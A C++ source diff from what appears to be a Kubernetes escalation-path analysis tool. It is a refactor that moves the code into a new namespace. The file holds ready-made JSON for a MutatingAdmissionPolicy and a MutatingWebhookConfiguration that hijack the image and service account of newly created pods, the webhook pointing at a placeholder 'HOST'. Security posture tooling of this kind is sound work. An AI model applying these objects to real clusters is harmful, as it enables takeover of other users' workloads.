@@ -1,9 +1,9 @@
+#include "graph/escalation/requests/text.h"
 #include "graph/escalation/techniques/all.h"
-#include "graph/escalation/text.h"
 
 #include <fmt/format.h>
 
-namespace nsposture::escalation {
+namespace nsposture::escalation::techniques {
 
 namespace {
 
@@ -39,27 +39,27 @@ constexpr std::string_view kPolicySpec =
     R"(,"spec":{"failurePolicy":"Ignore","reinvocationPolicy":"Never","matchConstraints":{"resourceRules":[{"operations":["CREATE"],"apiGroups":[""],"apiVersions":["v1"],"resources":["pods"]}]},"mutations":[{"patchType":"JSONPatch","jsonPatch":{"expression":"[JSONPatch{op: \"replace\", path: \"/spec/containers/0/image\", value: \"IMAGE\"}]"}}]})";
 
 StepText text(const StepView& view) {
-  const bool webhook = !uses(view.edge, kCreateMutatingPolicy);
+  const bool webhook = !requests::uses(view.edge, kCreateMutatingPolicy);
   if (!webhook) {
-    const auto name = fresh_name(view, object_name(view.edge));
-    const auto json = object_json("admissionregistration.k8s.io/v1alpha1",
-                                  "MutatingAdmissionPolicy", {}, name, kPolicySpec);
-    const auto binding =
-        object_json("admissionregistration.k8s.io/v1alpha1", "MutatingAdmissionPolicyBinding", {},
-                    name, fmt::format(R"(,"spec":{{"policyName":{}}})", json_text(name)));
+    const auto name = requests::fresh_name(view, requests::object_name(view.edge));
+    const auto json = requests::object_json("admissionregistration.k8s.io/v1alpha1",
+                                            "MutatingAdmissionPolicy", {}, name, kPolicySpec);
+    const auto binding = requests::object_json(
+        "admissionregistration.k8s.io/v1alpha1", "MutatingAdmissionPolicyBinding", {}, name,
+        fmt::format(R"(,"spec":{{"policyName":{}}})", requests::json_text(name)));
     return {
-        send_object(view, kCreateMutatingPolicy, json) + '\n' +
-            send_object(view, kCreateMutatingBinding, binding),
+        requests::send_object(view, kCreateMutatingPolicy, json) + '\n' +
+            requests::send_object(view, kCreateMutatingBinding, binding),
         "a mutating policy changes the image and the account of the next pod that anybody makes"};
   }
-  const auto name = fresh_name(view, object_name(view.edge));
-  const auto json = object_json(
+  const auto name = requests::fresh_name(view, requests::object_name(view.edge));
+  const auto json = requests::object_json(
       "admissionregistration.k8s.io/v1", "MutatingWebhookConfiguration", {}, name,
       R"(,"webhooks":[{"name":"take.over.example","sideEffects":"None","admissionReviewVersions":["v1"],"failurePolicy":"Ignore","clientConfig":{"url":"https://HOST/mutate","caBundle":"BASE64-OF-CA"},"rules":[{"operations":["CREATE"],"apiGroups":[""],"apiVersions":["v1"],"resources":["pods"]}]}])");
-  const bool exists = !uses(view.edge, kCreateWebhook);
+  const bool exists = !requests::uses(view.edge, kCreateWebhook);
   return {
-      exists ? overwrite_object(view, kPatchWebhook, json)
-             : send_object(view, kCreateWebhook, json),
+      exists ? requests::overwrite_object(view, kPatchWebhook, json)
+             : requests::send_object(view, kCreateWebhook, json),
       "a mutating webhook changes the image and the account of the next pod that anybody makes"};
 }
 
@@ -78,4 +78,4 @@ Technique mutate_admission() {
           .text = text};
 }
 
-}  // namespace nsposture::escalation
+}  // namespace nsposture::escalation::techniques
